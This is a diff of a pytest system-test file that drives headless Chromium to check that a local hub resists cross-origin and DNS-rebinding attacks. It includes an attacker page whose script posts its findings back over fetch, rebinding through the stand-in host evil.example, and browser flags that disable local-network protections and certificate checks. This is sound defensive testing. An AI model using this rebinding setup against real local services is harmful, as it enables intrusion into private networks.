@@ -2,15 +2,18 @@
 
 import asyncio
 import json
-from collections.abc import AsyncIterator, Iterator
-from contextlib import asynccontextmanager
+import os
+import signal
+from collections.abc import AsyncIterator, Iterator, Mapping
+from contextlib import asynccontextmanager, suppress
 from pathlib import Path
 from typing import Any
 
 import pytest
 from aiohttp import web
+from pytest_aiohttp.plugin import AiohttpRawServer
 
-from tests.support.chromium import Attacker, served, told_by
+from scripts.headless import QUIET
 from tests.support.process import HubProcess
 
 pytestmark = pytest.mark.system
@@ -66,6 +69,80 @@ EVERYTHING = (
 )
 NOTHING = dict.fromkeys(EVERYTHING, False)
 
+DEADLINE = 60.0
+_OPTIONS = (
+    *QUIET,
+    # Newer browsers protect a local network by themselves. Here the hub has to.
+    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
+    # Whoever installed the hub's authority is the one to protect.
+    "--ignore-certificate-errors",
+)
+
+
+class Attacker:
+    """Serves one page, and hears from it what it could do. The page has to call ``tell(found)``.
+
+    Attributes:
+        port: where the page is.
+    """
+
+    def __init__(self, script: str) -> None:
+        self.port: int | None = None
+        self.found: asyncio.Future[Any] = asyncio.get_running_loop().create_future()
+        self._script = script
+
+    async def answer(self, asked: web.BaseRequest) -> web.StreamResponse:
+        if asked.method == "POST":
+            if not self.found.done():
+                self.found.set_result(json.loads(await asked.text()))
+            return web.Response(text="thanks", headers={"Access-Control-Allow-Origin": "*"})
+        if asked.path != "/":
+            return web.Response(status=404)
+        told = f"http://127.0.0.1:{self.port}/"
+        page = (
+            "<!doctype html><meta charset=utf-8><body><script>"
+            f"const tell = found => fetch({told!r}, "
+            "{method: 'POST', mode: 'no-cors', body: JSON.stringify(found)});"
+            f"{self._script}</script>"
+        )
+        return web.Response(text=page, content_type="text/html")
+
+
+async def told_by(
+    profile: Path, url: str, attacker: Attacker, names: Mapping[str, str] | None = None
+) -> Any:  # noqa: ANN401 - JSON
+    """Open a page in a new browser, and return what it tells.
+
+    Args:
+        profile: folder for the browser's profile; must not exist.
+        url: of the page.
+        attacker: hears it.
+        names: host names, and the addresses that they lead to.
+    """
+    rules = ",".join(f"MAP {name} {address}" for name, address in (names or {}).items())
+    log = profile.with_suffix(".log")
+    with log.open("wb") as errors:
+        browser = await asyncio.create_subprocess_exec(
+            "chromium",
+            *_OPTIONS,
+            *([f"--host-resolver-rules={rules}"] if rules else []),
+            f"--user-data-dir={profile}",
+            url,
+            stdin=asyncio.subprocess.DEVNULL,
+            stdout=errors,
+            stderr=errors,
+            start_new_session=True,
+        )
+    try:
+        async with asyncio.timeout(DEADLINE):
+            return await attacker.found
+    except TimeoutError:
+        raise AssertionError(f"the page told nothing:\n{log.read_text('utf-8')}") from None
+    finally:
+        with suppress(ProcessLookupError):
+            os.killpg(browser.pid, signal.SIGKILL)
+        await browser.wait()
+
 
 @pytest.fixture
 def hub(tmp_path: Path) -> Iterator[HubProcess]:
@@ -78,21 +155,21 @@ def script(target: str, token: str) -> str:
     return ATTACK % {name: json.dumps(value) for name, value in values.items()}
 
 
-async def attacked(tmp_path: Path, target: str, token: str) -> Any:  # noqa: ANN401 - JSON
+async def attacked(serve: AiohttpRawServer, tmp_path: Path, target: str, token: str) -> Any:  # noqa: ANN401 - JSON
     """Open somebody else's page, which attacks; returns what it could do."""
     attacker = Attacker(script(target, token))
-    async with served(attacker.answer) as attacker.port:
-        url = f"http://127.0.0.1:{attacker.port}/"
-        return await told_by(tmp_path / "profile", url, attacker)
+    page = await serve(attacker.answer)
+    attacker.port = page.port
+    return await told_by(tmp_path / "profile", str(page.make_url("/")), attacker)
 
 
 @asynccontextmanager
-async def rebound(first: int) -> AsyncIterator[tuple[int, list[int]]]:
+async def rebound() -> AsyncIterator[tuple[int, list[int | None]]]:
     """Be the port of a name that leads to one server first, and later to another.
 
     Gives the port, and the list whose last number is the port that it leads to.
     """
-    leads_to = [first]
+    leads_to: list[int | None] = []
     carrying: set[asyncio.Task[None]] = set()
 
     async def carry(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -148,29 +225,31 @@ async def careless(asked: web.BaseRequest) -> web.StreamResponse:
     return web.Response(text="{}", headers=allowed, content_type=kind)
 
 
-async def test_the_page_can_do_all_of_it_to_a_careless_server(tmp_path: Path) -> None:
-    async with served(careless) as port:
-        found = await attacked(tmp_path, f"http://127.0.0.1:{port}", "any")
+async def test_the_page_can_do_all_of_it_to_a_careless_server(
+    aiohttp_raw_server: AiohttpRawServer, tmp_path: Path
+) -> None:
+    server = await aiohttp_raw_server(careless)
+    found = await attacked(aiohttp_raw_server, tmp_path, str(server.make_url("")), "any")
     assert found == dict.fromkeys(EVERYTHING, True)
 
 
 @pytest.mark.parametrize("door", ["http", "https"])
 async def test_a_page_from_another_origin_can_do_nothing(
-    hub: HubProcess, tmp_path: Path, door: str
+    hub: HubProcess, aiohttp_raw_server: AiohttpRawServer, tmp_path: Path, door: str
 ) -> None:
     target = hub.url if door == "http" else f"https://127.0.0.1:{hub.lan_port}"
-    assert await attacked(tmp_path, target, hub.token) == NOTHING
+    assert await attacked(aiohttp_raw_server, tmp_path, target, hub.token) == NOTHING
     assert await orders(hub) == 0
     # Both plain writes and the socket came as far as the hub, and it was the hub that said no.
     assert await refusals(hub, "FORBIDDEN_ORIGIN") >= 3
 
 
-async def rebinding(tmp_path: Path, target: int, token: str) -> Any:  # noqa: ANN401 - JSON
+async def rebinding(serve: AiohttpRawServer, tmp_path: Path, target: int | None, token: str) -> Any:  # noqa: ANN401 - JSON
     """Open a page of evil.example, whose name leads to the target once the page is there.
 
     To the browser, the page and the target are of one origin: only the target can tell.
     """
-    async with rebound(0) as (port, leads_to):
+    async with rebound() as (port, leads_to):
         attacker = Attacker(script(f"http://evil.example:{port}", token))
 
         async def then_the_target(asked: web.BaseRequest) -> web.StreamResponse:
@@ -179,25 +258,23 @@ async def rebinding(tmp_path: Path, target: int, token: str) -> Any:  # noqa: AN
             leads_to.append(target)
             return answer
 
-        async with (
-            served(attacker.answer) as attacker.port,
-            served(then_the_target) as first,
-        ):
-            leads_to.append(first)
-            url, names = f"http://evil.example:{port}/", {"evil.example": "127.0.0.1"}
-            return await told_by(tmp_path / "profile", url, attacker, names)
+        attacker.port = (await serve(attacker.answer)).port
+        leads_to.append((await serve(then_the_target)).port)
+        url, names = f"http://evil.example:{port}/", {"evil.example": "127.0.0.1"}
+        return await told_by(tmp_path / "profile", url, attacker, names)
 
 
 async def test_a_name_that_is_made_to_lead_to_a_careless_server_opens_all_of_it(
-    tmp_path: Path,
+    aiohttp_raw_server: AiohttpRawServer, tmp_path: Path
 ) -> None:
-    async with served(careless) as port:
-        assert await rebinding(tmp_path, port, "any") == dict.fromkeys(EVERYTHING, True)
+    port = (await aiohttp_raw_server(careless)).port
+    found = await rebinding(aiohttp_raw_server, tmp_path, port, "any")
+    assert found == dict.fromkeys(EVERYTHING, True)
 
 
 async def test_a_name_that_is_made_to_lead_to_the_hub_opens_nothing(
-    hub: HubProcess, tmp_path: Path
+    hub: HubProcess, aiohttp_raw_server: AiohttpRawServer, tmp_path: Path
 ) -> None:
-    assert await rebinding(tmp_path, hub.port, hub.token) == NOTHING
+    assert await rebinding(aiohttp_raw_server, tmp_path, hub.port, hub.token) == NOTHING
     assert await orders(hub) == 0
     assert await refusals(hub, "MISDIRECTED") >= len(EVERYTHING)
